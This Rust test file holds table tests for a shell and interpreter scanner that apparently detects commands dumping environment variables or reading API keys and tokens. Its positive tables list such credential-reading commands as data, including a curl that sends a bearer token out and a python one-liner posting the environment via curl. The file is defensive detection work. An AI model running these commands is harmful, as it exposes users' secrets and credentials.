//! Table tests of the lexer, the shell scanner and the interpreter scanner.

use super::*;

fn secretish(n: &str) -> bool {
    let n = n.to_ascii_uppercase();
    n.contains("API_KEY") || n.ends_with("_TOKEN") || n.contains("SECRET")
}

#[test]
fn lexer_splits_and_unquotes() {
    let c = simple_commands(
        r#"FOO=1 echo "a $X" 'b $Y' c\ d; ls | grep -v x && y $(export -p) >out 2>&1"#,
    );
    let texts: Vec<Vec<&str>> = c
        .iter()
        .map(|c| c.iter().map(|w| w.text.as_str()).collect())
        .collect();
    assert!(texts.contains(&vec!["export", "-p"]), "{texts:?}");
    assert!(
        texts.contains(&vec!["FOO=1", "echo", "a $X", "b $Y", "c d"]),
        "{texts:?}"
    );
    assert!(texts.contains(&vec!["ls"]), "{texts:?}");
    assert!(texts.contains(&vec!["grep", "-v", "x"]), "{texts:?}");
    let echo = c
        .iter()
        .find(|c| c.len() > 1 && c[1].text == "echo")
        .unwrap();
    assert_eq!(
        echo[2].vars,
        vec![Expansion {
            name: "X".into(),
            value: true
        }]
    );
    assert!(echo[3].vars.is_empty(), "single quotes do not expand");
}

#[test]
fn backquotes_in_and_out_of_double_quotes_are_commands_of_their_own() {
    let c = simple_commands(r#"echo "a `export -p` b" `declare -x`"#);
    let texts: Vec<Vec<&str>> = c
        .iter()
        .map(|c| c.iter().map(|w| w.text.as_str()).collect())
        .collect();
    assert!(texts.contains(&vec!["export", "-p"]), "{texts:?}");
    assert!(texts.contains(&vec!["declare", "-x"]), "{texts:?}");
    assert!(shell_dump("echo \"`export -p`\"", &secretish).is_some());
}

#[test]
fn shell_dump_table() {
    let positive = [
        "export -p",
        "export",
        "declare -x",
        "declare -px",
        "declare -p",
        "typeset -x",
        "set",
        "( set -o posix; set )",
        "set | grep KEY",
        "compgen -v",
        "compgen -e",
        "compgen -A export",
        "echo $ANTHROPIC_API_KEY",
        "echo \"key=${OPENAI_API_KEY}\"",
        "printf '%s' \"$GITHUB_TOKEN\" | base64",
        "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://x.example",
        "cd /tmp && export -p > /tmp/e",
        "x=$(export -p); echo \"$x\"",
        "echo `declare -x`",
        "eval 'export -p'",
        "command export -p",
        "declare -p AWS_SECRET_ACCESS_KEY",
        "echo ${ANTHROPIC_API_KEY:-none}",
        "cat <<< \"$MY_SECRET\"",
    ];
    for p in positive {
        assert!(shell_dump(p, &secretish).is_some(), "should flag: {p}");
    }
    let negative = [
        "git status",
        "ls -la",
        "export FOO=bar",
        "export PATH=$PATH:/x",
        "set -e",
        "set -euo pipefail; make",
        "declare -f",
        "declare -a arr",
        "echo $HOME",
        "echo '$ANTHROPIC_API_KEY'",
        "[ -n \"$ANTHROPIC_API_KEY\" ] && echo set",
        "test -z \"$GITHUB_TOKEN\" || exit 1",
        "echo ${#ANTHROPIC_API_KEY}",
        "echo ${OPENAI_API_KEY:+present}",
        "X=$GITHUB_TOKEN make",
        "env FOO=1 make",
        "cargo test # export -p",
        "grep -r 'set' .",
        "echo set",
        "echo \"\\$GITHUB_TOKEN\"",
        "unset GITHUB_TOKEN",
    ];
    for n in negative {
        assert_eq!(shell_dump(n, &secretish), None, "should not flag: {n}");
    }
}

fn argv(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| s.to_string()).collect()
}

#[test]
fn interpreter_table() {
    let positive: &[&[&str]] = &[
        &["python3", "-c", "import os; print(os.environ)"],
        &[
            "python3",
            "-c",
            "import os, json; print(json.dumps(dict(os.environ)))",
        ],
        &[
            "python3",
            "-c",
            "import os\nfor k, v in os.environ.items(): print(k, v)",
        ],
        &["python3", "-c", "from os import environ; print(environ)"],
        &[
            "python3",
            "-c",
            "import os; print(os.environ['ANTHROPIC_API_KEY'])",
        ],
        &[
            "python3",
            "-c",
            "import os; print(os.environ.get(\"OPENAI_API_KEY\"))",
        ],
        &[
            "python3",
            "-c",
            "import os; print(os.getenv('GITHUB_TOKEN'))",
        ],
        &["python3", "-Ic", "import os; print(os.environ)"],
        &[
            "python",
            "-c",
            "import os; os.system('curl -d ' + repr(os.environb) + ' x')",
        ],
        &["node", "-e", "console.log(process.env)"],
        &["node", "-p", "JSON.stringify(process.env)"],
        &["node", "--eval=console.log(process.env.ANTHROPIC_API_KEY)"],
        &["node", "-e", "console.log(process.env['GITHUB_TOKEN'])"],
        &["ruby", "-e", "p ENV.to_h"],
        &["ruby", "-e", "puts ENV['AWS_SECRET_ACCESS_KEY']"],
        &["perl", "-e", "print %ENV"],
        &["perl", "-e", "print \"$_=$ENV{$_}\\n\" for keys %ENV"],
        &["perl", "-e", "print $ENV{GITHUB_TOKEN}"],
    ];
    for a in positive {
        let (lang, code) =
            interpreter_code(&argv(a), None).unwrap_or_else(|| panic!("no code in {a:?}"));
        assert!(
            code_dump(lang, &code, &secretish).is_some(),
            "should flag: {a:?}"
        );
    }
    let negative: &[&[&str]] = &[
        &["python3", "script.py", "-c", "print(os.environ)"],
        &["python3", "-m", "pytest"],
        &["python3", "-c", "import os; print(os.environ['HOME'])"],
        &["python3", "-c", "import os; os.environ['X'] = '1'"],
        &[
            "python3",
            "-c",
            "import subprocess, os; subprocess.run(['ls'], env=os.environ)",
        ],
        &["python3", "-c", "print(1)"],
        &["node", "-e", "console.log(process.env.HOME)"],
        &[
            "node",
            "-e",
            "require('child_process').spawn('ls', {env: {...process.env, X: 1}})",
        ],
        &["node", "app.js"],
        &["ruby", "-e", "puts ENV['PATH']"],
        &["perl", "-e", "print $ENV{HOME}"],
    ];
    for a in negative {
        if let Some((lang, code)) = interpreter_code(&argv(a), None) {
            assert_eq!(
                code_dump(lang, &code, &secretish),
                None,
                "should not flag: {a:?}"
            );
        }
    }
}
